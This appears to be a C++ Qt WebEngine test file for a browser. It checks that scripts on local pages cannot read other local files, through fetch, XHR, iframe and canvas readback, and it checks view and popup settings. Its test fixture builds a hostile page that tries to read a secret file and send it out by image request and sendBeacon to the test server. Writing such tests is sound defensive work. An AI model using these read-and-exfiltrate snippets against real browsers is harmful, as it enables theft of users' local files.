// Local pages may show their own pictures, styles and scripts, but no script
// of theirs may read another local file's content, in any view.
#include "tests/browser/SiteWindowFixture.h"

#include "platform/WebBrowser.h"
#include "tests/support/TestSupport.h"

#include <QDir>
#include <QTest>
#include <QUuid>
#include <QWebEnginePage>
#include <QWebEngineSettings>

namespace {

class LocalFileAccess : public SiteWindowFixture {
protected:
    void SetUp() override
    {
        SiteWindowFixture::SetUp();
        ASSERT_TRUE(attack.isValid());
        secret = "QUARROW-SECRET-" + QUuid::createUuid().toByteArray(QUuid::WithoutBraces);
        ASSERT_TRUE(testsupport::writeFile(attack.path() + "/secret.txt", secret + "\n"));
        ASSERT_TRUE(
            testsupport::writeFile(attack.path() + "/secret.png", TestSite::pngBytes(4, 3)));
    }

    // A hostile page beside the secret: `attempt` is script that calls
    // report(text) with whatever it got. The page hands the result to the
    // title and tries to send it to the test server.
    QString writeHostilePage(const QString &name, const QString &attempt)
    {
        const QString page =
            "<html><head><title>hostile</title></head><body><p>hostile page</p><script>\n"
            "var S = '" +
            site.url("") +
            "';\n"
            "var reported = false;\n"
            "function report(r) {\n"
            "  if (reported) return; reported = true;\n"
            "  document.title = 'done:' + r;\n"
            "  try { new Image().src = S + '/leak?d=' + encodeURIComponent(r); } catch (e) {}\n"
            "  try { navigator.sendBeacon(S + '/beacon', String(r)); } catch (e) {}\n"
            "}\n"
            "setTimeout(function() { report('timeout'); }, 8000);\n"
            "try {\n" +
            attempt +
            "\n} catch (e) { report('blocked:' + e.name); }\n"
            "</script></body></html>\n";
        const QString path = attack.path() + "/" + name;
        testsupport::writeFile(path, page.toUtf8());
        return path;
    }

    QString liveTitle() const { return form->wb[0]->page()->title(); }

    QTemporaryDir attack;
    QByteArray secret;
};

struct Channel {
    const char *name;
    const char *attempt;
};

TEST_F(LocalFileAccess, NoScriptOfALocalPageReadsAnotherLocalFile)
{
    const Channel channels[] = {
        {"fetch", "fetch('secret.txt').then(function(r) { return r.text(); })"
                  ".then(function(t) { report(t); },"
                  " function(e) { report('blocked:' + e.name); });"},
        {"xhr", "var x = new XMLHttpRequest();"
                "x.onload = function() { report(x.responseText); };"
                "x.onerror = function() { report('blocked:error'); };"
                "x.open('GET', 'secret.txt'); x.send();"},
        {"frame", "var f = document.createElement('iframe');"
                  "f.onload = function() {"
                  "  try { var d = f.contentDocument;"
                  "        report(d && d.body ? d.body.textContent : 'blocked:null'); }"
                  "  catch (e) { report('blocked:' + e.name); } };"
                  "f.src = 'secret.txt'; document.body.appendChild(f);"},
        {"canvas", "var i = new Image();"
                   "i.onload = function() {"
                   "  var c = document.createElement('canvas'); c.width = 4; c.height = 3;"
                   "  var g = c.getContext('2d'); g.drawImage(i, 0, 0);"
                   "  var got = '';"
                   "  try { got += c.toDataURL(); } catch (e) { got += 'blocked:' + e.name; }"
                   "  try { got += ' ' + g.getImageData(0, 0, 4, 3).data.join(','); }"
                   "  catch (e) { got += ' blocked:' + e.name; }"
                   "  report('shown ' + i.naturalWidth + 'x' + i.naturalHeight + ' ' + got); };"
                   "i.onerror = function() { report('not shown'); };"
                   "i.src = 'secret.png';"},
    };
    for (const Channel &channel : channels) {
        SCOPED_TRACE(channel.name);
        const QString page =
            writeHostilePage(QString("hostile-%1.html").arg(channel.name), channel.attempt);
        ASSERT_TRUE(form->wb[0]->Navigate2(page));
        const QString address = QUrl::fromLocalFile(page).toString();
        QTRY_VERIFY_WITH_TIMEOUT(
            form->wb[0]->LocationURL() == address && liveTitle().startsWith("done:"), 20000);
        const QString title = liveTitle();
        EXPECT_FALSE(title.contains(QString::fromLatin1(secret))) << title.toStdString();
        EXPECT_FALSE(title.contains("timeout")) << title.toStdString();
        if (QByteArray(channel.name) == "canvas") {
            // Either the picture shows and reading it back is refused, or the
            // engine does not show another local file to a scripted page at all.
            EXPECT_TRUE(title == "done:not shown" ||
                        title == "done:shown 4x3 blocked:SecurityError blocked:SecurityError")
                << title.toStdString();
        } else {
            EXPECT_TRUE(title.startsWith("done:blocked:")) << title.toStdString();
        }
        // Give any request the page tried a moment to arrive.
        QTest::qWait(500);
        EXPECT_FALSE(site.server().anyRequestContains(secret));
    }
}

TEST_F(LocalFileAccess, LocalPagesKeepTheirScriptsAndStylesAndTheImagesViewShowsTheirPictures)
{
    QDir(attack.path()).mkpath("pics");
    testsupport::writeFile(attack.path() + "/pics/own.png", TestSite::pngBytes(5, 2));
    testsupport::writeFile(attack.path() + "/own.png", TestSite::pngBytes(3, 7));
    const QString page = attack.path() + "/own.html";
    testsupport::writeFile(page, "<html><head><title>Own</title>"
                                 "<style>p { color: rgb(1, 2, 3); }</style></head><body>"
                                 "<p id=p>styled</p><img id=a src=own.png>"
                                 "<img id=b src=pics/own.png><script>"
                                 "document.documentElement.setAttribute('data-own', 'ran');"
                                 "</script></body></html>");
    const int before = form->harvestsDone();
    ASSERT_TRUE(form->wb[0]->Navigate2(page));
    ASSERT_TRUE(waitForHarvests(before + 1));
    EXPECT_EQ(evaluate(0, "getComputedStyle(document.getElementById('p')).color + ' ' + "
                          "document.documentElement.getAttribute('data-own')")
                  .toString()
                  .toStdString(),
              "rgb(1, 2, 3) ran");

    // The Images view runs no script, so it may show the local page's pictures.
    const QString images = QUrl::fromLocalFile(programFile("imagepage.html")).toString();
    const QString countLoaded =
        "(function(){var a=Array.from(document.images);return a.length>0&&a.every("
        "function(i){return i.complete&&i.naturalWidth>0;});})()";
    QElapsedTimer timer;
    timer.start();
    bool shown = false;
    while (!shown && timer.elapsed() < 15000) {
        if (form->wb[2]->LocationURL() == images && !form->wb[2]->Busy())
            shown = evaluate(2, countLoaded).toBool();
        QTest::qWait(100);
    }
    EXPECT_TRUE(shown);
}

TEST_F(LocalFileAccess, TheStartPageShowsItsOwnPictures)
{
    testsupport::writeFile(programFile("logo.png"), TestSite::pngBytes(6, 4));
    form->wb[0]->GoHome();
    ASSERT_TRUE(waitForLoad(0));
    QString answer;
    QElapsedTimer timer;
    timer.start();
    while (answer != "6x4" && timer.elapsed() < 10000) {
        answer = evaluate(0, "(function(){var i=document.images[0];"
                             "return i.naturalWidth+'x'+i.naturalHeight;})()")
                     .toString();
        QTest::qWait(50);
    }
    EXPECT_EQ(answer.toStdString(), "6x4");
}

TEST_F(LocalFileAccess, EveryViewAndEveryPopupKeepsLocalFilesApart)
{
    // A popup of the live view behaves as the view does.
    const QString page = attack.path() + "/opener.html";
    testsupport::writeFile(page, "<html><body><script>window.open('');</script></body></html>");
    ASSERT_TRUE(form->wb[0]->Navigate2(page));
    QTRY_VERIFY_WITH_TIMEOUT(form->wb[0]->pendingPopup() != nullptr, 10000);
    // With a local page in the live view, a view either runs no script or lets its pages read no
    // other file.
    for (WebBrowser *view : form->wb) {
        const QWebEngineSettings *settings = view->page()->settings();
        EXPECT_FALSE(settings->testAttribute(QWebEngineSettings::JavascriptEnabled) &&
                     settings->testAttribute(QWebEngineSettings::LocalContentCanAccessFileUrls))
            << view->index();
    }
    QWebEngineSettings *popup = form->wb[0]->pendingPopup()->settings();
    EXPECT_FALSE(popup->testAttribute(QWebEngineSettings::LocalContentCanAccessFileUrls));
    EXPECT_FALSE(popup->testAttribute(QWebEngineSettings::LocalContentCanAccessRemoteUrls));
}

} // namespace
